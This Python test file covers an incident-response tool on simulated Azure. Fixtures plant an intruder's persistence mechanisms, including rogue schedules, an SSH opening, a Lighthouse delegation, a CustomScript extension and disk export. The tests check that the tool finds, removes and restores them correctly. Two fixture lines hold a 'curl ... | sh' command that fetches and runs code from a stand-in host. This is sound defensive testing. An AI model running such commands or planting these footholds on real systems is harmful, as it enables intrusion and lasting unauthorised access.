"""Ways back that an intruder left, on the simulated Azure: found by deed, read as they are, removed and put back; a colleague's stay."""

from __future__ import annotations

import copy
from datetime import timedelta

import msgspec
import pytest

from firebreak.clients import Connection
from firebreak.execution.looking import why_stale
from firebreak.model.case import Case
from firebreak.model.footholds import Foothold, Footholds
from firebreak.model.outcome import ActionState
from firebreak.model.plan import Action, NoOp
from tasks.registry import load_steps
from tests.contract.tasks.changing_steps import carry_out
from tests.contract.tasks.estate import HERE, Estate, empty_estate, later
from tests.support.inprocess import sent, simulated

NAMESPACES = (
    "Automation",
    "Batch",
    "Compute",
    "EventGrid",
    "Logic",
    "ManagedServices",
    "Network",
    "Storage",
    "Insights",
)


async def looked(estate: Estate, connection: Connection) -> Case:
    return await estate.case(connection, ("investigate.footholds",), ("eradicate.remove_footholds",))


@pytest.fixture
def estate() -> Estate:
    found = empty_estate(NAMESPACES)
    subscription = next(iter(found.world.subscriptions))
    _colleagues(found, subscription)
    later(found, timedelta(minutes=40))
    _thiefs(found, subscription)
    later(found, timedelta(0))
    found.world.requests.clear()
    return found


def _colleagues(found: Estate, subscription: str) -> None:
    by, group = found.colleague, f"{subscription}/resourceGroups/rg-shop"
    base = f"{group}/providers"
    machine = {"hardwareProfile": {"vmSize": "Standard_D2s_v5"}, "priority": "Spot"}
    found.make(by, "web", f"{base}/Microsoft.Compute/virtualMachines/web", {**HERE, "properties": machine})
    disk = {"creationData": {"createOption": "Empty"}, "diskSizeGB": 64}
    for name in ("data", "old-data"):
        body = {**HERE, "sku": {"name": "Premium_LRS"}, "properties": disk}
        found.make(by, name, f"{base}/Microsoft.Compute/disks/{name}", body)
    found.make(by, "nsg", f"{base}/Microsoft.Network/networkSecurityGroups/nsg", {**HERE, "properties": {}})
    rule = {"access": "Allow", "direction": "Inbound", "priority": 100, "destinationPortRange": "443"}
    found.make(by, "https", f"{found.ids['nsg']}/securityRules/https", {"properties": rule})
    network = {"addressSpace": {"addressPrefixes": ["10.0.0.0/16"]}}
    found.make(by, "net", f"{base}/Microsoft.Network/virtualNetworks/net", {**HERE, "properties": network})
    found.make(by, "ops", f"{base}/Microsoft.Automation/automationAccounts/ops", {**HERE, "properties": {}})
    nightly = {"frequency": "Day", "interval": 1, "isEnabled": True}
    found.make(by, "nightly", f"{found.ids['ops']}/schedules/nightly", {"properties": nightly})
    batch = f"{base}/Microsoft.Batch/batchAccounts/shopbatch"
    found.make(by, "batch", batch, {**HERE, "properties": {}})
    pool = {"vmSize": "Standard_D2s_v5", "scaleSettings": {"fixedScale": {"targetDedicatedNodes": 0}}}
    found.make(by, "pool", f"{batch}/pools/nightly", {"properties": pool})
    account = {**HERE, "sku": {"name": "Standard_LRS"}, "kind": "StorageV2", "properties": {}}
    found.make(by, "store", f"{base}/Microsoft.Storage/storageAccounts/shopstore", account)


def _thiefs(found: Estate, subscription: str) -> None:
    by, ids = found.thief, found.ids
    group = f"{subscription}/resourceGroups/rg-monitoring"
    found.make(by, "own-group", group, HERE)
    account = f"{group}/providers/Microsoft.Automation/automationAccounts/aa"
    found.make(by, "aa", account, {**HERE, "properties": {}})
    found.make(by, "runbook", f"{account}/runbooks/Sync", {**HERE, "properties": {"runbookType": "PowerShell"}})
    hourly = {"frequency": "Hour", "interval": 1, "isEnabled": True, "startTime": "2026-11-20T04:00:00Z"}
    found.make(by, "hourly", f"{account}/schedules/hourly", {"properties": hourly})
    found.make(by, "rogue-schedule", f"{ids['ops']}/schedules/health", {"properties": hourly})
    found.make(by, "webhook", f"{ids['ops']}/webhooks/ping", {"properties": {"isEnabled": True}})
    definition = {"triggers": {"Recurrence": {"type": "Recurrence"}}, "actions": {}}
    flow = {"state": "Enabled", "definition": definition}
    found.make(by, "flow", f"{group}/providers/Microsoft.Logic/workflows/la", {**HERE, "properties": flow})
    agent = {"publisher": "Microsoft.Azure.Extensions", "type": "CustomScript", "typeHandlerVersion": "2.1"}
    found.make(by, "agent", f"{ids['web']}/extensions/agent", {**HERE, "properties": agent})
    opening = {"access": "Allow", "direction": "Inbound", "priority": 101, "destinationPortRange": "22"}
    found.make(by, "ssh", f"{ids['nsg']}/securityRules/ssh", {"properties": opening})
    widened = {"access": "Allow", "direction": "Inbound", "priority": 100, "destinationPortRange": "*"}
    found.make(by, "https", ids["https"], {"properties": widened})
    peer = {
        "remoteVirtualNetwork": {"id": f"{subscription}/resourceGroups/x/providers/Microsoft.Network/virtualNetworks/y"}
    }
    found.make(by, "peering", f"{ids['net']}/virtualNetworkPeerings/out", {"properties": peer})
    guid = found.world.chance.guid()
    lighthouse = f"{subscription}/providers/Microsoft.ManagedServices/registrationAssignments/{guid}"
    offer = {
        "registrationDefinitionId": f"{subscription}/providers/Microsoft.ManagedServices/registrationDefinitions/{guid}"
    }
    found.make(by, "lighthouse", lighthouse, {"properties": offer})
    definition = {"managedByTenantId": guid, "authorizations": []}
    offered = f"{subscription}/providers/Microsoft.ManagedServices/registrationDefinitions/{guid}"
    found.make(by, "offer", offered, {"properties": definition})
    command = {"source": {"script": "curl -s https://x.example/a | sh"}, "asyncExecution": True}
    found.make(by, "command", f"{ids['web']}/runCommands/fix", {**HERE, "properties": command})
    found.make(by, "sftp", f"{ids['store']}/localUsers/backup", {"properties": {"hasSshPassword": True}})
    started = {"startTask": {"commandLine": "/bin/sh -c 'curl -s https://x.example/a | sh'"}}
    found.make(by, "pool", ids["pool"], {"properties": started}, "PATCH")
    listener = {"destination": {"endpointType": "WebHook"}, "filter": {}}
    events = f"{ids['store']}/providers/Microsoft.EventGrid/eventSubscriptions/copy"
    found.make(by, "events", events, {**HERE, "properties": listener})
    wanted = {"access": "Read", "durationInSeconds": 86400}
    found.make(by, "export", f"{ids['data']}/beginGetAccess", wanted, "POST")
    found.make(by, "keys", f"{ids['store']}/listKeys", {}, "POST")


MADE = (
    "aa",
    "runbook",
    "hourly",
    "rogue-schedule",
    "webhook",
    "flow",
    "agent",
    "ssh",
    "peering",
    "lighthouse",
    "events",
    "offer",
    "command",
    "sftp",
)
BACK = ("hourly", "rogue-schedule", "flow", "ssh", "peering", "lighthouse", "offer")


def found_in(case: Case, estate: Estate) -> dict[str, Foothold]:
    names = {path.lower(): name for name, path in estate.ids.items()}
    return {names.get(one.id.lower(), one.id): one for one in case[Footholds].items}


async def test_every_way_back_is_found_with_its_evidence_and_nothing_of_a_colleagues(estate: Estate) -> None:
    async with simulated(estate.world) as connection:
        case = await looked(estate, connection)
    found = found_in(case, estate)
    assert set(found) == {*MADE, "https", "data", "pool"}
    assert {name for name, one in found.items() if one.is_theirs} == {*MADE, "data"}
    assert found["data"].kind == "export"
    assert "was there before" in found["https"].people
    assert "start task" in found["pool"].people
    logged = {str(event["eventDataId"]) for event in estate.world.events}
    assert all(one.event_ids and set(one.event_ids) <= logged for one in found.values())
    assert all(one.caller == "eve@contoso.example" and one.address == "203.0.113.9" for one in found.values())
    assert case[Footholds].not_looked_at == ()
    assess = load_steps()["investigate.footholds"].assess
    assert assess is not None
    told = {finding.id: len(finding.resources) for finding in assess(case[Footholds], case)}
    assert told == {"footholds": len(MADE) + 1, "footholds-by-hand": 2}


async def test_they_are_removed_children_first_and_the_rest_of_the_estate_is_as_it_was(estate: Estate) -> None:
    world = estate.world
    kept = {
        n: copy.deepcopy(world.resources[p]) for n, p in estate.ids.items() if n not in MADE and p in world.resources
    }
    async with simulated(world) as connection:
        case = await looked(estate, connection)
        plan = estate.plan(case)
        done = await carry_out(plan, connection, world)
    assert {o.state for o in done.outcomes.values()} == {ActionState.DONE}, done.outcomes
    assert [name for name in MADE if estate.ids[name] in world.resources] == []
    assert world.resources[estate.ids["data"]]["properties"]["diskState"] == "Unattached"
    for name, before in kept.items():
        if name != "data":
            assert world.resources[estate.ids[name]] == before, name
    order = [url.split("?")[0] for _, url in sent(world, "DELETE")]
    place = {name: next(i for i, url in enumerate(order) if url.endswith(estate.ids[name])) for name in MADE}
    assert max(place["runbook"], place["hourly"]) < place["aa"]
    left = {n.target: n.reason for n in plan.no_ops}
    assert set(left) == {estate.ids["https"], estate.ids["pool"]}


async def test_a_second_look_finds_nothing_to_remove_and_sends_nothing(estate: Estate) -> None:
    async with simulated(estate.world) as connection:
        plan = estate.plan(await looked(estate, connection))
        await carry_out(plan, connection, estate.world)
        before = len(sent(estate.world, "DELETE", "POST", "PUT"))
        again = await carry_out(plan, connection, estate.world)
        assert {o.state for o in again.outcomes.values()} == {ActionState.ALREADY_SO}
        assert estate.plan(await looked(estate, connection)).actions == ()
    assert len(sent(estate.world, "DELETE", "POST", "PUT")) == before


async def test_what_a_document_tells_in_full_is_put_back_by_an_undo_and_the_rest_is_said(estate: Estate) -> None:
    world, undo = estate.world, load_steps()["eradicate.remove_footholds"].undo
    assert undo is not None
    before = {name: copy.deepcopy(world.resources[estate.ids[name]]["properties"]) for name in BACK}
    async with simulated(world) as connection:
        plan = estate.plan(await looked(estate, connection))
        done = await carry_out(plan, connection, world)
        inverses = {a.target: undo(a, done.before[a.id].prior) for a in reversed(plan.actions)}
        nothing = {target for target, inverse in inverses.items() if isinstance(inverse, NoOp)}
        assert nothing == {
            estate.ids[n] for n in ("aa", "runbook", "webhook", "agent", "events", "data", "command", "sftp")
        }
        # Below an account that is gone for good nothing can be put back.
        back = [i for t, i in inverses.items() if isinstance(i, Action) and t != estate.ids["hourly"]]
        for inverse in back:
            once = await carry_out(msgspec.structs.replace(plan, actions=(inverse,)), connection, world)
            assert {o.state for o in once.outcomes.values()} == {ActionState.DONE}, once.outcomes
    for name in set(BACK) - {"hourly"}:
        assert world.resources[estate.ids[name]]["properties"] == before[name], name


async def test_a_custom_role_comes_back_and_goes_again_though_azure_notes_when_it_was_made(estate: Estate) -> None:
    """A role made anew has a date of its own; that is no change of anybody's."""
    world, undo = estate.world, load_steps()["eradicate.remove_footholds"].undo
    assert undo is not None
    subscription = next(iter(world.subscriptions))
    path = f"{subscription}/providers/Microsoft.Authorization/roleDefinitions/{world.chance.guid()}"
    rights = [{"actions": ["*/read"], "notActions": [], "dataActions": [], "notDataActions": []}]
    role = {"roleName": "Reader Plus", "assignableScopes": [subscription], "permissions": rights}
    estate.make(estate.thief, "role", path, {"properties": role})
    before = copy.deepcopy(world.role_definitions[path]["properties"])
    async with simulated(world) as connection:
        plan = estate.plan(await looked(estate, connection))
        mine = msgspec.structs.replace(plan, actions=tuple(a for a in plan.actions if a.target == path))
        for turn, there in enumerate((False, True, False, True)):
            world.clock.advance(3600)
            done = await carry_out(mine, connection, world)
            assert {o.state for o in done.outcomes.values()} == {ActionState.DONE}, (turn, done.outcomes)
            assert (path in world.role_definitions) is there
            inverse = undo(mine.actions[0], done.before[mine.actions[0].id].prior)
            assert isinstance(inverse, Action)
            mine = msgspec.structs.replace(plan, actions=(inverse,))
    after = world.role_definitions[path]["properties"]
    assert after["createdOn"] > before["createdOn"]
    assert {k: v for k, v in after.items() if not k.endswith("On")} == {
        k: v for k, v in before.items() if not k.endswith("On")
    }


async def test_who_an_identity_was_is_kept_when_it_goes(estate: Estate) -> None:
    """An undo has to know whose roles nobody can have any more; a logic app that comes back has another identity."""
    world, loaded = estate.world, load_steps()["eradicate.remove_footholds"]
    assert loaded.look is not None
    assert loaded.undo is not None
    own = world.chance.guid()
    world.resources[estate.ids["flow"]]["identity"] = {
        "type": "SystemAssigned, UserAssigned",
        "principalId": own.upper(),
        "tenantId": world.tenant_id,
        "userAssignedIdentities": {"/x/id": {"principalId": "p", "clientId": "c"}},
    }
    async with simulated(world) as connection:
        plan = estate.plan(await looked(estate, connection))
        removal = next(a for a in plan.actions if a.target == estate.ids["flow"])
        seen = await loaded.look([removal], connection.eyes)
    assert seen[removal.id].prior["principals"] == [own]
    back = loaded.undo(removal, seen[removal.id].prior)
    assert isinstance(back, Action)
    assert back.params["document"]["identity"] == {
        "type": "SystemAssigned, UserAssigned",
        "userAssignedIdentities": {"/x/id": {}},
    }
    assert any("a new one" in reason for reason in back.reasons)


async def test_what_changed_since_the_plan_is_refused_and_named(estate: Estate) -> None:
    world = estate.world
    async with simulated(world) as connection:
        case = await looked(estate, connection)
        plan = estate.plan(case)
        world.resources[estate.ids["ssh"]]["properties"]["destinationPortRange"] = "443"
        made_anew = world.resources[estate.ids["data"]]["properties"]
        kept, made_anew["uniqueId"] = made_anew["uniqueId"], "99999999-9999-4999-8999-999999999999"
        look = load_steps()["eradicate.remove_footholds"].look
        assert look is not None
        seen = await look(plan.actions, connection.eyes)
        stale = {a.target for a in plan.actions if why_stale(a, seen[a.id])}
        assert stale == {estate.ids["ssh"], estate.ids["data"]}
        made_anew["uniqueId"] = kept
        done = await carry_out(plan, connection, world)
    assert [a.target for a in plan.actions if done.outcomes[a.id].state is ActionState.REFUSED] == [estate.ids["ssh"]]
    assert estate.ids["ssh"] in world.resources


async def test_what_cannot_be_read_is_said_and_left_alone(estate: Estate) -> None:
    from azure_simulator.faults import Fault

    estate.world.faults.append(Fault(kind="status", status=403, method="GET", url="/workflows/la"))
    async with simulated(estate.world) as connection:
        case = await looked(estate, connection)
    assert [note.what for note in case[Footholds].not_looked_at] == [f"logic app {estate.ids['flow']}"]
    plan = estate.plan(case)
    assert estate.ids["flow"] not in {a.target for a in plan.actions}
    assert "could not be read" in {n.target: n.reason for n in plan.no_ops}[estate.ids["flow"]]
